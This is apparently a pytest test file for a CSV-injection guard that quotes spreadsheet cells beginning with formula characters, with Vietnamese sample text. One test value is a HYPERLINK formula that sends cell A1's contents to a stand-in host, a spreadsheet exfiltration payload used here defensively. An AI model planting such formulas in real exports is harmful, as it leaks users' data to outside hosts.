"""pipeline.text.cells: OWASP's rule for cells a spreadsheet would run as formulas."""

from __future__ import annotations

import pytest

from pipeline.text.cells import inert_cell


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r\t@A1"],
)
def test_formula_starts_get_a_leading_quote(value: str) -> None:
    assert inert_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Hải Phòng = thành phố", "", " x", "'=already quoted", "\tHải Phòng"])
def test_other_text_is_unchanged(value: str) -> None:
    assert inert_cell(value) == value


@pytest.mark.parametrize("value", [-5, 0.25, None, True])
def test_numbers_and_other_values_pass_through(value: object) -> None:
    assert inert_cell(value) is value
